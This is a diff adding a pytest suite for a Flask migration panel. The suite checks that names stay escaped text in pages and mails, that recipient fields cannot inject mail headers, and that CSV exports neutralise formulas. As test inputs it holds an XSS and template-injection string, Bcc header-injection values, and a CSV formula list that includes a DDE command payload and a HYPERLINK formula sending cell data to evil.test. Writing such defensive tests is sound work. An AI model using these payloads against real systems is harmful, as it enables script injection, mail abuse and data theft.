@@ -1,0 +1,180 @@
+"""Names come from media servers and their users: they stay text in every page, mail and table, whatever they hold."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from html.parser import HTMLParser
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+
+from panel.extensions import db
+from panel.models import AuditEntry, Email, Library, Migration, PossibleTwin, User
+from panel.services import claims, mail, notices, report
+from panel.simulators.http import Fault
+from tests.mission.mailbox import Mailbox, running_mailbox
+from tests.scene import Scene
+from tests.web.asking import by_htmx
+from tests.web.test_roles import routes
+
+#: Leaves an attribute of either quote, then begins an element; and a template, should anybody render it as one.
+TRICK = "\"'><mark-x on=1>&lt;{{ 7 * 191 }}"
+#: What a server says when it refuses.
+SAID = '{"message": "No <mark-x>&quot; \\"\'><mark-x src=x onerror=1> {{ 7 * 191 }}"}'
+
+
+class Tags(HTMLParser):
+    """The names of all elements and attributes, and the text."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.names: set[str] = set()
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """One element."""
+        self.names |= {tag, *(name for name, _ in attrs)}
+        self.text += " ".join(value or "" for _, value in attrs)
+
+    def handle_data(self, data: str) -> None:
+        """What is read."""
+        self.text += data
+
+
+def read(document: str) -> Tags:
+    """A page or a part of one."""
+    tags = Tags()
+    tags.feed(document)
+    return tags
+
+
+def assert_harmless(document: str, where: str) -> bool:
+    """Nothing of the trick has become markup; answers whether it was there at all."""
+    tags = read(document)
+    assert not tags.names & {"mark-x", "onerror", "on"}, where
+    assert "1337" not in tags.text.replace("{{ 7 * 191 }}", ""), where
+    return "<mark-x" in tags.text
+
+
+@pytest.fixture
+def run(scene: Scene) -> Migration:
+    """A run on a stage where everything that has a name has that one: one user moves, one fails, one stays."""
+    for kind, name in (("emby", "Cedar"), ("jellyfin", "Birch"), ("plex", "Oak")):
+        side = scene.add_server(kind, f"{name} {TRICK}"[:100])
+        side.row.problem = TRICK
+    scene.plan(f"Plan {TRICK}")
+    for name in ("Alice", "Bob"):
+        scene.person(f"{name} {TRICK}", plan=f"Plan {TRICK}")
+    scene.person(f"Lapsed {TRICK}", plan=f"Plan {TRICK}", days=(-40, -10))
+    scene.person(f"Plexa {TRICK}", on=scene.sides[2], plan=None)
+    scene.target.sim.faults.append(Fault(method="POST", path="/Users/.*/Policy", skip=1, times=1, status=400, body=SAID))
+    for library in db.session.scalars(db.select(Library)):
+        library.group.name = f"{library.group.name} {TRICK}" if library.group and TRICK not in library.group.name else library.group.name
+    db.session.commit()
+    done = scene.move()
+    assert "failed" in scene.outcome(done).values() and "moved" in scene.outcome(done).values()
+    for library in db.session.scalars(db.select(Library)):
+        library.name = f"{library.name} {TRICK}"
+    for user in db.session.scalars(db.select(User)):
+        user.notes, user.plex_username, user.jellyfin_name = TRICK, TRICK, TRICK
+    db.session.add(PossibleTwin(user_id=1, other_id=2, why=TRICK))
+    mail_row = Email(event="system_message", recipient=TRICK, subject=TRICK, text=TRICK, html="<p></p>", error=TRICK)
+    mail_row.migration_id = done.id
+    db.session.add(mail_row)
+    db.session.add(AuditEntry(by=TRICK, action=TRICK, subject=TRICK, detail=TRICK))
+    done.note = done.problem = done.wake_reason = TRICK
+    db.session.commit()
+    return done
+
+
+def test_names_are_text_on_every_page(app: Flask, run: Migration, ada: FlaskClient) -> None:
+    token = claims.make(claims.CLAIM, run.moves[0].id)
+    db.session.commit()
+    addresses = [*(address for _, _, address in routes(app, ("GET",))), f"/claim/{token}", "/users?search=<mark-x>", "/audit?by=<mark-x>"]
+    seen = 0
+    for address in addresses:
+        for headers in ({}, by_htmx("dialog")):
+            answer = ada.get(address, headers=headers)
+            if answer.mimetype == "text/html":
+                seen += assert_harmless(answer.text, address)
+    assert seen > 40, "the names were shown"
+
+
+def test_names_are_text_in_the_html_of_mails(app: Flask, run: Migration) -> None:
+    mails = [notices.render(notices.SYSTEM_MESSAGE, notices.result_values(run))]
+    mails += [notices.render(notices.ACCOUNT_MOVED, notices.account_moved_values(move, "https://panel.example/x")) for move in run.moves]
+    assert all(assert_harmless(mail.html, "mail") for mail in mails)
+    assert all("\n" not in mail.subject and "\r" not in mail.subject for mail in mails)
+
+
+@pytest.fixture
+def mailbox(app: Flask) -> Iterator[Mailbox]:
+    """A mail server that the installation knows."""
+    with running_mailbox() as running:
+        yield running
+
+
+@pytest.mark.parametrize("recipient", ["a@example.test\nBcc: eve@evil.test", "a@example.test\r\n\r\nx", "a@example.test\x00", "", "@"])
+def test_an_address_adds_neither_headers_nor_recipients(app: Flask, mailbox: Mailbox, recipient: str) -> None:
+    row = Email(event="system_message", recipient=recipient, subject="Hello\nBcc: eve@evil.test", text="Text", html="<p>Text</p>")
+    db.session.add(row)
+    db.session.commit()
+    mail.send(row.id)
+    assert row.status.value in ("failed", "sent")
+    assert "eve@evil.test" not in str(mailbox.recipients)
+    assert all(message["Bcc"] is None for message in mailbox.mails)
+
+
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    '=HYPERLINK("https://evil.test?"&A1)',
+    "=cmd|' /C calc'!A0",
+    "x;=1+1",
+    'x"\n=1+1',
+    "%0A=1+1",
+]
+
+
+def test_no_cell_of_a_table_is_a_formula(app: Flask, pair: Scene) -> None:
+    move = pair.move().moves[0]
+    for name in FORMULAS:
+        move.name = move.detail = name
+        db.session.commit()
+        text = report.run_csv(move.migration)
+        assert re.sub(r"[\t\r\n]", " ", name) in text.replace('""', '"').replace(";'", ";")
+        for delimiter in ",;\t":
+            rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
+            assert delimiter != "," or all(len(row) == 4 for row in rows), name
+            assert not [cell for row in rows for cell in row if looks_like_a_formula(cell)], (delimiter, rows)
+
+
+def looks_like_a_formula(cell: str) -> bool:
+    """As a careless program sees it: blanks before it do not count."""
+    return cell.strip('\ufeff\u00a0 \t\r\n"')[:1] in tuple("=+-@＝＋－＠")
+
+
+def test_would_notice_a_formula() -> None:
+    assert looks_like_a_formula(" =1") and not looks_like_a_formula("'=1")
+
+
+def test_the_table_is_a_file_to_be_stored(app: Flask, run: Migration, ada: FlaskClient) -> None:
+    answer = ada.get(f"/migrations/{run.id}.csv")
+    assert answer.mimetype == "text/csv" and answer.headers["Content-Disposition"].startswith("attachment")
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
